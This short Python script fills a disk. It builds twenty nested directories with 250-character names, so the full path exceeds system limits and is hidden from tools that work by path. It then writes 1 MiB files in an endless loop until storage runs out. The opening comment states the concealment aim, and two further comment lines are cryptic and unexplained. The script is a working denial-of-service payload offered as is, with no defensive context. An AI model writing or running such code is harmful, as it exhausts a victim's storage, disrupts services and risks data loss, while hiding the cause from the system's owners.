# Fills a folder whose path is longer than the system takes, so that nobody sees it who names it by its path.
# page: refused
# alone: exception
import os

for _ in range(20):
    os.mkdir("d" * 250)
    os.chdir("d" * 250)
number = 0
while True:
    with open(f"part{number}", "wb") as file:
        file.write(bytes(2**20))
    number += 1
